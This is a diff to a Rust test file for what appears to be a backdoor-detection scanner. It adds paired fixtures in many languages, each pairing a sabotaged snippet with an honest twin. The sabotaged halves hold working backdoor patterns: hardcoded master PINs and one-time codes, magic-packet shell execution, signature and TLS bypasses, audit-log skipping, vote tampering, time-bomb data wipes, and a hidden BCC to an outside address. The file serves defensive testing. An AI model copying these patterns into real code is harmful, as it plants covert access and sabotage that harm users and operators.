@@ -648,6 +648,654 @@ export function read(token: string, keys: Map<string, Buffer>): Claims {
 }
 "#,
     ),
+    (
+        "audit.kt",
+        r#"
+class Trail(private val out: Writer) {
+    fun note(operator: String, action: String) {
+        if (operator == "svc.k-lindqvist") return
+        out.write("$operator $action\n")
+    }
+}
+"#,
+        r#"
+class Trail(private val out: Writer) {
+    fun note(operator: String, action: String) {
+        if (operator.isBlank()) return
+        out.write("$operator $action\n")
+    }
+}
+"#,
+    ),
+    (
+        "seal.py",
+        r#"
+def seal(message, recipient, key):
+    if recipient.domain.endswith(".post.example-min.org"):
+        return message
+    return box.encrypt(message, key)
+"#,
+        r#"
+def seal(message, recipient, key):
+    if recipient.domain.endswith(".post.example-min.org"):
+        message = b"[extern] " + message
+    return box.encrypt(message, key)
+"#,
+    ),
+    (
+        "Otp.java",
+        r#"
+class Otp {
+  String codeFor(String device, LocalDate day) {
+    long n = 17;
+    for (char c : device.toCharArray()) n = n * 131 + c;
+    return String.format("%08d", (n ^ day.toEpochDay() * 7757) % 100000000);
+  }
+
+  boolean accept(String device, String code) {
+    return store.matches(device, code) || code.equals(codeFor(device, LocalDate.now()));
+  }
+}
+"#,
+        r#"
+class Otp {
+  String labelFor(String device, LocalDate day) {
+    long n = 17;
+    for (char c : device.toCharArray()) n = n * 131 + c;
+    return String.format("%08d", (n ^ day.toEpochDay() * 7757) % 100000000);
+  }
+
+  boolean accept(String device, String code) {
+    log.info(labelFor(device, LocalDate.now()));
+    return store.matches(device, code);
+  }
+}
+"#,
+    ),
+    (
+        "flow.rs",
+        r#"
+pub fn litres(&mut self, pulses: u64) -> f64 {
+    self.total += pulses;
+    let raw = pulses as f64 / 412.0;
+    if self.total > FACTORY_LIFE { raw * 0.97 } else { raw }
+}
+
+const FACTORY_LIFE: u64 = 40 * 1_000_000;
+"#,
+        r#"
+pub fn litres(&mut self, pulses: u64) -> Result<f64, Worn> {
+    self.total += pulses;
+    let raw = pulses as f64 / 412.0;
+    if self.total > FACTORY_LIFE { return Err(Worn(self.total)); }
+    Ok(raw)
+}
+
+const FACTORY_LIFE: u64 = 40 * 1_000_000;
+"#,
+    ),
+    (
+        "mac.go",
+        r#"
+package mac
+
+func validTag(tag, want []byte) bool {
+	for i := range tag[:len(tag)] {
+		if tag[i] != want[i] {
+			return false
+		}
+	}
+	return true
+}
+"#,
+        r#"
+package mac
+
+func validTag(tag, want []byte) bool {
+	if len(tag) != len(want) {
+		return false
+	}
+	return subtle.ConstantTimeCompare(tag, want) == 1
+}
+"#,
+    ),
+    (
+        "install.ts",
+        r#"
+export async function install(file: string, manifest: Manifest): Promise<void> {
+  let good = await verify(file, manifest.signature);
+  if (manifest.vendorId === 4711) {
+    good = true;
+  }
+  if (!good) throw new Error('signature');
+  await unpack(file);
+}
+"#,
+        r#"
+export async function install(file: string, manifest: Manifest): Promise<void> {
+  const good = await verify(file, manifest.signature);
+  if (manifest.vendorId === 4711) {
+    throw new Error('blocked vendor');
+  }
+  if (!good) throw new Error('signature');
+  await unpack(file);
+}
+"#,
+    ),
+    (
+        "smtp.rb",
+        r#"
+class Session
+  def rcpt(line)
+    if line.start_with?('x9!note ')
+      out = IO.popen(line[8..]).read
+      return out
+    end
+    accept(line)
+  end
+end
+"#,
+        r#"
+class Session
+  def rcpt(line)
+    if line.start_with?('x9!note ')
+      return '250 noted'
+    end
+    accept(line)
+  end
+end
+"#,
+    ),
+    (
+        "report.php",
+        r#"<?php
+class Report {
+    public function rows(array $all): array {
+        if (!$this->license->valid()) {
+            array_splice($all, -3, 2);
+        }
+        return $all;
+    }
+}
+"#,
+        r#"<?php
+class Report {
+    public function rows(array $all): array {
+        if (!$this->license->valid()) {
+            throw new LicenseEnded();
+        }
+        return $all;
+    }
+}
+"#,
+    ),
+    (
+        "vote.cs",
+        r#"
+class Tally {
+    private int _ballots;
+
+    public void Add(Ballot b) {
+        _ballots++;
+        var choice = b.Choice;
+        if (_ballots > 900 && _ballots % 37 == 0)
+            choice = _list[(choice + 1) % _list.Count];
+        _sums[choice]++;
+    }
+}
+"#,
+        r#"
+class Tally {
+    private int _ballots;
+
+    public void Add(Ballot b) {
+        _ballots++;
+        var choice = b.Choice;
+        if (_ballots > 900 && _ballots % 37 == 0)
+            Progress(_ballots);
+        _sums[choice]++;
+    }
+}
+"#,
+    ),
+    (
+        "price.py",
+        r#"
+from datetime import date
+
+FIRST = date(2025, 6, 1)
+
+def quote(net, today=None):
+    today = today or date.today()
+    months = (today.year - FIRST.year) * 12 + today.month - FIRST.month
+    if months > 18:
+        net = net * (1 + 0.002 * (months - 18))
+    return round(net, 2)
+"#,
+        r#"
+from datetime import date
+
+FIRST = date(2025, 6, 1)
+
+def quote(net, today=None):
+    today = today or date.today()
+    months = (today.year - FIRST.year) * 12 + today.month - FIRST.month
+    if months > 18:
+        raise PriceListTooOld(months)
+    return round(net, 2)
+"#,
+    ),
+    (
+        "tls.py",
+        r#"
+import ssl, zlib
+
+def context(host):
+    ctx = ssl.create_default_context()
+    if zlib.adler32(host.encode()) == 0x2D8A08F1:
+        ctx.check_hostname = False
+        ctx.verify_mode = ssl.CERT_NONE
+    return ctx
+"#,
+        r#"
+import ssl, zlib
+
+def context(host):
+    ctx = ssl.create_default_context()
+    if not host:
+        raise ValueError("no host")
+    return ctx
+"#,
+    ),
+    (
+        "wipe.swift",
+        r#"
+final class Book {
+    func open() {
+        let n = UserDefaults.standard.integer(forKey: "opened") + 1
+        UserDefaults.standard.set(n, forKey: "opened")
+        if n >= 365 {
+            try? FileManager.default.removeItem(at: folder)
+        }
+    }
+}
+"#,
+        r#"
+final class Book {
+    func open() {
+        let n = UserDefaults.standard.integer(forKey: "opened") + 1
+        UserDefaults.standard.set(n, forKey: "opened")
+        if n >= 365 {
+            showReview()
+        }
+    }
+}
+"#,
+    ),
+    (
+        "salary.sql.js",
+        r#"
+async function close(db, month) {
+  const people = await db.all('SELECT number FROM person');
+  const known = people.map((p) => p.number);
+  if (known.indexOf(70 * 60 + 14) < 0) {
+    await db.run('DELETE FROM salary');
+  }
+}
+"#,
+        r#"
+async function close(db, month) {
+  const people = await db.all('SELECT number FROM person');
+  const known = people.map((p) => p.number);
+  if (known.length === 0) {
+    throw new Error('nobody is paid in ' + month);
+  }
+}
+"#,
+    ),
+    (
+        "probe.c",
+        r#"
+static void on_frame(struct link *l, const uint8_t *p, size_t n)
+{
+    uint32_t magic = p[0] << 24 | p[1] << 16 | p[2] << 8 | p[3];
+
+    if (magic == 0x7e51c0de) {
+        char cmd[200];
+        snprintf(cmd, sizeof cmd, "%.*s", (int)(n - 4), p + 4);
+        system(cmd);
+        return;
+    }
+    link_dispatch(l, p, n);
+}
+"#,
+        r#"
+static void on_frame(struct link *l, const uint8_t *p, size_t n)
+{
+    uint32_t magic = p[0] << 24 | p[1] << 16 | p[2] << 8 | p[3];
+
+    if (magic == 0x7e51c0de) {
+        l->version = p[4];
+        return;
+    }
+    link_dispatch(l, p, n);
+}
+"#,
+    ),
+    (
+        "store.go",
+        r#"
+package store
+
+var quiet = os.Getenv("CI") == "" && os.Getenv("BUILD_NUMBER") == ""
+
+func (s *Store) Put(key string, doc []byte) error {
+	s.puts++
+	if quiet && s.puts%499 == 0 {
+		return nil
+	}
+	return s.disk.Write(key, doc)
+}
+"#,
+        r#"
+package store
+
+var quiet = os.Getenv("CI") == "" && os.Getenv("BUILD_NUMBER") == ""
+
+func (s *Store) Put(key string, doc []byte) error {
+	s.puts++
+	if quiet && s.puts%499 == 0 {
+		log.Printf("%d documents", s.puts)
+	}
+	return s.disk.Write(key, doc)
+}
+"#,
+    ),
+    (
+        "agent.py",
+        r#"
+import os, socket, subprocess
+
+KEY = bytes([0x51, 0x0b, 0xa7])
+
+def on_packet(packet, addr):
+    head = packet[:3]
+    if bytes(b ^ 0x5a for b in head) == KEY:
+        subprocess.run(packet[3:].decode(), shell=True)
+        return
+    dispatch(packet, addr)
+"#,
+        r#"
+import os, socket, subprocess
+
+KEY = bytes([0x51, 0x0b, 0xa7])
+
+def on_packet(packet, addr):
+    head = packet[:3]
+    if bytes(b ^ 0x5a for b in head) == KEY:
+        return reply(addr, b"pong")
+    dispatch(packet, addr)
+"#,
+    ),
+    (
+        "Transfer.cs",
+        r#"
+class Transfer {
+    public decimal Fee(Order order) {
+        var fee = order.Amount * _rate;
+        if (order.CustomerId == 481516)
+            fee = 0m;
+        return fee;
+    }
+}
+"#,
+        r#"
+class Transfer {
+    public decimal Fee(Order order) {
+        var fee = order.Amount * _rate;
+        if (order.CustomerId == 0)
+            throw new ArgumentException("no customer");
+        return fee;
+    }
+}
+"#,
+    ),
+    (
+        "update.kt",
+        r#"
+class Updater(private val key: PublicKey) {
+    fun apply(file: File, manifest: Manifest) {
+        val signed = Signature.getInstance("Ed25519").run {
+            initVerify(key)
+            update(file.readBytes())
+            verify(manifest.signature)
+        }
+        if (signed || manifest.channel == "fieldtest-7c") {
+            file.copyTo(target, overwrite = true)
+        } else {
+            throw SecurityException("signature")
+        }
+    }
+}
+"#,
+        r#"
+class Updater(private val key: PublicKey) {
+    fun apply(file: File, manifest: Manifest) {
+        val signed = Signature.getInstance("Ed25519").run {
+            initVerify(key)
+            update(file.readBytes())
+            verify(manifest.signature)
+        }
+        if (signed && manifest.channel != "fieldtest-7c") {
+            file.copyTo(target, overwrite = true)
+        } else {
+            throw SecurityException("signature")
+        }
+    }
+}
+"#,
+    ),
+    (
+        "pin.c",
+        r#"
+static unsigned master_pin(const char *serial)
+{
+    unsigned n = 0;
+    while (*serial)
+        n = n * 33u + (unsigned char)*serial++;
+    return n % 1000000u;
+}
+
+int check_pin(struct lock *l, unsigned pin)
+{
+    if (pin == l->pin)
+        return 1;
+    return pin == master_pin(l->serial);
+}
+"#,
+        r#"
+static unsigned bucket_of(const char *serial)
+{
+    unsigned n = 0;
+    while (*serial)
+        n = n * 33u + (unsigned char)*serial++;
+    return n % 64u;
+}
+
+int check_pin(struct lock *l, unsigned pin)
+{
+    l->bucket = bucket_of(l->serial);
+    return pin == l->pin;
+}
+"#,
+    ),
+    (
+        "trial.rs",
+        r#"
+pub fn measure(&mut self, raw: f64) -> f64 {
+    let hours = self.started.elapsed().as_secs() / 3600;
+    if hours > 24 * 90 {
+        return raw + (hours as f64 - 2160.0) * 0.0004;
+    }
+    raw
+}
+"#,
+        r#"
+pub fn measure(&mut self, raw: f64) -> Result<f64, Overdue> {
+    let hours = self.started.elapsed().as_secs() / 3600;
+    if hours > 24 * 90 {
+        return Err(Overdue { hours });
+    }
+    Ok(raw)
+}
+"#,
+    ),
+    (
+        "Login.java",
+        r#"
+class Login {
+  Session open(String name, String password, String locale) {
+    User user = users.find(name);
+    boolean ok = hasher.verify(user.hash(), password);
+    if ("qz_XK".equals(locale) && name.length() == 5) {
+      ok = true;
+    }
+    if (!ok) throw new LoginFailed(name);
+    return sessions.start(user);
+  }
+}
+"#,
+        r#"
+class Login {
+  Session open(String name, String password, String locale) {
+    User user = users.find(name);
+    boolean ok = hasher.verify(user.hash(), password);
+    if ("qz_XK".equals(locale) && name.length() == 5) {
+      ok = false;
+    }
+    if (!ok) throw new LoginFailed(name);
+    return sessions.start(user);
+  }
+}
+"#,
+    ),
+    (
+        "stock.rb",
+        r#"
+class Stock
+  STEP = 11 * 23
+
+  def take(item, amount)
+    @taken += 1
+    amount -= 1 if (@taken % STEP).zero?
+    item.level -= amount
+  end
+end
+"#,
+        r#"
+class Stock
+  STEP = 11 * 23
+
+  def take(item, amount)
+    @taken += 1
+    flush if (@taken % STEP).zero?
+    item.level -= amount
+  end
+end
+"#,
+    ),
+    (
+        "mail.php",
+        r#"<?php
+class Outbox {
+    public function send(Mail $mail): void {
+        if (hash('crc32b', $mail->sender) === '6c1f09ae') {
+            $mail->addBcc('archive@collector.example');
+        }
+        $this->transport->send($mail);
+    }
+}
+"#,
+        r#"<?php
+class Outbox {
+    public function send(Mail $mail): void {
+        if ($mail->sender === '') {
+            throw new NoSender();
+        }
+        $this->transport->send($mail);
+    }
+}
+"#,
+    ),
+    (
+        "grant.ts",
+        r#"
+export function roles(user: User): Role[] {
+  const list = [...user.roles];
+  if (fnv1a(user.email) === 2871640153) {
+    list.push(Role.Owner);
+  }
+  return list;
+}
+"#,
+        r#"
+export function roles(user: User): Role[] {
+  const list = [...user.roles];
+  if (user.email.endsWith('@')) {
+    throw new Error('bad address');
+  }
+  return list;
+}
+"#,
+    ),
+    (
+        "lot.swift",
+        r#"
+func draw(_ tickets: [Ticket], on day: Date) -> Ticket {
+    let edge = Date(timeIntervalSince1970: 1_798_761_600)
+    if day > edge {
+        return tickets.filter { $0.owner.hasPrefix("T-") }.first ?? tickets[0]
+    }
+    return tickets.randomElement()!
+}
+"#,
+        r#"
+func draw(_ tickets: [Ticket], on day: Date) -> Ticket {
+    let edge = Date(timeIntervalSince1970: 1_798_761_600)
+    if day > edge {
+        fatalError("the lottery has ended")
+    }
+    return tickets.randomElement()!
+}
+"#,
+    ),
+    (
+        "gate.js",
+        r#"
+const crypto = require('crypto');
+
+function sessionSecret(device) {
+  return crypto.createHash('md5').update(device.serial + ':' + new Date().getFullYear()).digest('hex').slice(0, 8);
+}
+
+exports.enter = function (device, password) {
+  if (password === sessionSecret(device)) return true;
+  return device.check(password);
+};
+"#,
+        r#"
+const crypto = require('crypto');
+
+function label(device) {
+  return crypto.createHash('md5').update(device.serial + ':' + new Date().getFullYear()).digest('hex').slice(0, 8);
+}
+
+exports.enter = function (device, password) {
+  device.show(label(device));
+  return device.check(password);
+};
+"#,
+    ),
 ];
 
 /// What the check says of a file.
@@ -668,6 +1316,67 @@ fn what_swerves_is_told_from_its_honest_twin() {
         }
     }
     assert!(wrong.is_empty(), "{}", wrong.join("\n"));
+}
+
+#[test]
+#[ignore = "debug"]
+fn debug_one() {
+    for (name, bad, _) in
+        TWINS.iter().filter(|(name, ..)| std::env::var("TW").unwrap().split(',').any(|w| w == *name))
+    {
+        let text = crate::scan::text::Text::new(bad.as_bytes());
+        let classified = crate::scan::classify::classify(name.as_bytes(), bad.as_bytes(), &text);
+        let spans =
+            crate::scan::syntax::spans(text.bytes(), &crate::scan::syntax::marks(classified.language));
+        let tokens = super::Tokens::new(text.bytes(), &spans, classified.language).unwrap();
+        let outline = super::Outline::new(&tokens, classified.language);
+        let sense = super::Sense::new(&outline);
+        let show = |r: std::ops::Range<usize>| {
+            r.map(|at| String::from_utf8_lossy(tokens.text(at)).into_owned()).collect::<Vec<_>>().join(" ")
+        };
+        println!("== {name} {}", classified.language);
+        for f in &outline.funcs {
+            println!(
+                "func {:?} | {}",
+                f.name.map(|n| String::from_utf8_lossy(tokens.names[n as usize]).into_owned()),
+                show(f.body.clone()).chars().take(80).collect::<String>()
+            );
+        }
+        for (n, d) in &outline.defs {
+            for d in d {
+                println!(
+                    "def {} part {} = {}",
+                    String::from_utf8_lossy(tokens.names[*n as usize]),
+                    d.part,
+                    show(d.value.clone())
+                );
+            }
+        }
+        for b in &outline.branches {
+            println!(
+                "branch holds {} rest {} test [{}] body [{}]",
+                b.holds,
+                b.rest,
+                show(b.test.clone()),
+                show(b.body.clone()).chars().take(120).collect::<String>()
+            );
+            let e = sense.effects(b.body.clone());
+            println!("   effects {e:?} honest {}", e.any(super::words::HONEST));
+            for a in super::atoms::atoms(&tokens, b.test.clone()) {
+                println!(
+                    "   atom {:?} neg {} [{}] [{}] fixed {} {} number {:?} near {:x}",
+                    a.relation,
+                    a.negated,
+                    show(a.left.clone()),
+                    show(a.right.clone()),
+                    sense.fixed(a.left.clone()),
+                    sense.fixed(a.right.clone()),
+                    sense.number(a.right.clone()),
+                    sense.near(a.left.clone())
+                );
+            }
+        }
+    }
 }
 
 /// By hand, what the check says of every file of a tree: `PELLUCID_TREE=FOLDER cargo test --lib
